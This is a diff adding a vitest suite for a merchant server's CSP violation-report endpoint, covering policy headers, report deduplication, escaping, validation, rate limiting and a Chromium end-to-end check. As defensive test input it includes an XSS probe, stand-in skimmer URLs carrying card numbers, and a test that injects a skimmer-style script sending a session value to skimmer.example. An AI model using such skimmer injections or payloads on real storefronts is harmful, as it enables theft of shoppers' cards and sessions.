@@ -1,0 +1,255 @@
+// CSP violation reports on the example merchant server, over real HTTP: the
+// storefront pages' policy names where to report (report-to with
+// Reporting-Endpoints, report-uri for older browsers); POST /csp-reports
+// takes both wire formats, keeps each violation once with a count, and
+// refuses what is not a report (content type, size, JSON, fields, other
+// sites' pages, a client posting in a loop); the back-office page lists the
+// violations escaped and is guarded like /reconciliation. And the whole way
+// in a real browser: a script a storefront's policy blocks in Chromium
+// reaches the report page.
+import { request as httpRequest } from 'node:http';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { CSP_REPORTS_PER_CLIENT, type MerchantServer } from '../examples/merchant-server/src/server.js';
+import { launchBrowser, recordViolations, type TestBrowser } from './support/browser.js';
+import { startShopOnSandbox, type ShopOnSandbox } from './support/merchant.js';
+
+let world: ShopOnSandbox;
+let shop: MerchantServer;
+
+beforeAll(async () => {
+  world = await startShopOnSandbox();
+  shop = world.merchant;
+});
+afterAll(async () => {
+  await world?.close();
+});
+
+interface Answer {
+  status: number;
+  headers: Record<string, string | string[] | undefined>;
+  body: string;
+}
+
+/** One request to the shop, from `localAddress` (a loopback address of its own plays another client). */
+function send(
+  path: string,
+  options: { method?: string; headers?: Record<string, string>; body?: string; localAddress?: string } = {},
+): Promise<Answer> {
+  return new Promise((resolve, reject) => {
+    const request = httpRequest(
+      new URL(path, shop.url),
+      { method: options.method ?? 'GET', headers: options.headers ?? {}, agent: false, localAddress: options.localAddress },
+      (res) => {
+        let body = '';
+        res.setEncoding('utf8');
+        res.on('data', (chunk: string) => (body += chunk));
+        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
+      },
+    );
+    request.on('error', reject);
+    request.end(options.body);
+  });
+}
+
+const postReport = (contentType: string, body: unknown, localAddress?: string) =>
+  send('/csp-reports', {
+    method: 'POST',
+    headers: { 'Content-Type': contentType, 'User-Agent': 'report-test-agent' },
+    body: typeof body === 'string' ? body : JSON.stringify(body),
+    localAddress,
+  });
+
+/** A report-uri report about a page of this shop. */
+function legacyReport(fields: Record<string, unknown> = {}) {
+  return {
+    'csp-report': {
+      'document-uri': `${shop.url}/core-storefront/?cart=4711`,
+      'effective-directive': 'script-src-elem',
+      'violated-directive': 'script-src-elem',
+      'original-policy': "script-src 'self'",
+      disposition: 'enforce',
+      'blocked-uri': 'https://skimmer.example/collect.js?card=4111111111111111',
+      'status-code': 200,
+      ...fields,
+    },
+  };
+}
+
+/** The body rows of the page's violation table, each as its cells' text. */
+function violationRows(html: string): string[][] {
+  const body = /<table id="violations">[\s\S]*?<tbody>([\s\S]*?)<\/tbody>/.exec(html)?.[1] ?? '';
+  return [...body.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((row) =>
+    [...row[1]!.matchAll(/<t[hd][^>]*>([\s\S]*?)<\/t[hd]>/g)].map((cell) =>
+      cell[1]!
+        .replace(/<[^>]+>/g, ' ')
+        .replace(/&#(\d+);/g, (_, code: string) => String.fromCharCode(Number(code)))
+        .replace(/\s+/g, ' ')
+        .trim(),
+    ),
+  );
+}
+
+const rowFor = (rows: string[][], blocked: string) => rows.find((row) => row[1]?.startsWith(blocked));
+
+describe('the storefront policy', () => {
+  it('over http names report-uri only: Chromium would report nothing once report-to is named', async () => {
+    const page = await send('/core-storefront/');
+    expect(page.status).toBe(200);
+    const policy = String(page.headers['content-security-policy']);
+    expect(policy).toMatch(/(^|; )report-uri \/csp-reports(;|$)/);
+    expect(policy).not.toContain('report-to');
+    expect(page.headers['reporting-endpoints']).toBeUndefined();
+  });
+});
+
+describe('POST /csp-reports', () => {
+  it('keeps a violation once, counting its repeats, and shows it on the page without the query', async () => {
+    const report = legacyReport({ 'blocked-uri': 'https://skimmer.example/first.js?card=4111111111111111' });
+    expect((await postReport('application/csp-report', report)).status).toBe(204);
+    expect((await postReport('application/csp-report', report)).status).toBe(204);
+    // The same violation through the Reporting API.
+    const batch = [
+      {
+        type: 'csp-violation',
+        age: 3,
+        url: `${shop.url}/core-storefront/`,
+        user_agent: 'Chrome/140 test',
+        body: {
+          documentURL: `${shop.url}/core-storefront/?cart=1`,
+          blockedURL: 'https://skimmer.example/first.js',
+          effectiveDirective: 'script-src-elem',
+          disposition: 'enforce',
+          statusCode: 200,
+        },
+      },
+    ];
+    expect((await postReport('application/reports+json', batch)).status).toBe(204);
+
+    const page = await send('/csp-reports');
+    expect(page.status).toBe(200);
+    expect(page.body).not.toContain('4111111111111111');
+    expect(page.body).not.toContain('cart=');
+    const row = rowFor(violationRows(page.body), 'https://skimmer.example/first.js');
+    expect(row).toEqual([
+      'script-src-elem',
+      'https://skimmer.example/first.js',
+      `${shop.url}/core-storefront/`,
+      '—',
+      'blocked',
+      '3',
+      expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC$/),
+      expect.stringMatching(/ UTC$/),
+      'Chrome/140 test',
+    ]);
+  });
+
+  it('shows what a browser sent as text, never as markup', async () => {
+    const report = legacyReport({
+      'blocked-uri': 'inline',
+      'script-sample': '<img src=x onerror=alert(1)>',
+      'source-file': `${shop.url}/x.js`,
+    });
+    expect((await postReport('application/csp-report', report)).status).toBe(204);
+    const page = await send('/csp-reports');
+    expect(page.body).not.toContain('<img src=x');
+    expect(page.body).toContain('&#60;img src=x onerror=alert(1)&#62;');
+  });
+
+  it.each([
+    ['text/plain', () => JSON.stringify(legacyReport()), 415, 'CSP_REPORT_CONTENT_TYPE', 'Content-Type'],
+    ['application/csp-report', () => '{"csp-report":', 400, 'CSP_REPORT_JSON', 'body'],
+    [
+      'application/csp-report',
+      () => JSON.stringify(legacyReport({ 'line-number': -1 })),
+      400,
+      'CSP_REPORT_INVALID',
+      'csp-report.line-number',
+    ],
+    [
+      'application/csp-report',
+      () => JSON.stringify(legacyReport({ 'document-uri': 'https://elsewhere.example/' })),
+      400,
+      'CSP_REPORT_INVALID',
+      'documentUrl',
+    ],
+    [
+      'application/csp-report',
+      () => JSON.stringify(legacyReport({ 'script-sample': 'x'.repeat(70 * 1024) })),
+      413,
+      'CSP_REPORT_TOO_LARGE',
+      'body',
+    ],
+  ])('refuses %s (case %#): %i %s', async (contentType, body, status, code, field) => {
+    const before = await shop.orders.cspReports.count();
+    const answer = await postReport(contentType, body());
+    expect(answer.status).toBe(status);
+    expect(JSON.parse(answer.body)).toMatchObject({ error: { code, field } });
+    expect(await shop.orders.cspReports.count()).toBe(before);
+  });
+
+  it('slows down one client posting in a loop, and not the others', async () => {
+    const report = legacyReport({ 'blocked-uri': 'https://skimmer.example/loop.js' });
+    const answers: number[] = [];
+    for (let i = 0; i <= CSP_REPORTS_PER_CLIENT.burst; i++)
+      answers.push((await postReport('application/csp-report', report, '127.0.0.7')).status);
+    expect(answers.slice(0, -1).every((status) => status === 204)).toBe(true);
+    const refused = await postReport('application/csp-report', report, '127.0.0.7');
+    expect(refused.status).toBe(429);
+    expect(Number(refused.headers['retry-after'])).toBeGreaterThanOrEqual(1);
+    expect((await postReport('application/csp-report', report, '127.0.0.8')).status).toBe(204);
+  });
+});
+
+describe('GET /csp-reports', () => {
+  it('is served on this machine only, not through a proxy, and asks nothing of a browser', async () => {
+    const proxied = await send('/csp-reports', { headers: { 'X-Forwarded-For': '203.0.113.9' } });
+    expect(proxied.status).toBe(403);
+    expect(proxied.body).not.toContain('skimmer.example');
+    const own = await send('/csp-reports');
+    expect(own.headers['content-security-policy']).toContain("default-src 'none'");
+    expect(own.headers['cache-control']).toBe('no-store');
+    expect((await send('/csp-reports', { method: 'DELETE' })).status).toBe(405);
+  });
+});
+
+describe('a storefront in Chromium', () => {
+  let browser: TestBrowser;
+  beforeAll(async () => {
+    browser = await launchBrowser();
+  });
+  afterAll(async () => {
+    await browser?.close();
+  });
+
+  it('reports a script its policy blocks, and the report reaches the page', { timeout: 60_000 }, async () => {
+    const tab = await browser.newPage();
+    const violations = await recordViolations(tab.page);
+    await tab.page.goto(`${shop.url}/core-storefront/?coupon=SHOPPER-SECRET`, { waitUntil: 'load' });
+    // What a skimmer injected into the page would do.
+    await tab.page.evaluate(() => {
+      const script = document.createElement('script');
+      script.src = 'https://skimmer.example/injected.js?session=SHOPPER-SECRET';
+      document.head.append(script);
+    });
+    await expect.poll(() => violations).toContainEqual(expect.stringMatching(/^script-src-elem https:\/\/skimmer\.example\//));
+
+    // Over http Chromium posts to report-uri at once; the page is polled for a bounded time.
+    let row: string[] | undefined;
+    let html = '';
+    const deadline = Date.now() + 30_000;
+    while (!row && Date.now() < deadline) {
+      html = (await send('/csp-reports')).body;
+      row = rowFor(violationRows(html), 'https://skimmer.example/injected.js');
+      if (!row) await new Promise((resolve) => setTimeout(resolve, 500));
+    }
+    expect(row?.slice(0, 5)).toEqual([
+      'script-src-elem',
+      'https://skimmer.example/injected.js',
+      `${shop.url}/core-storefront/`,
+      expect.any(String),
+      'blocked',
+    ]);
+    expect(html).not.toContain('SHOPPER-SECRET');
+    await tab.close();
+  });
+});
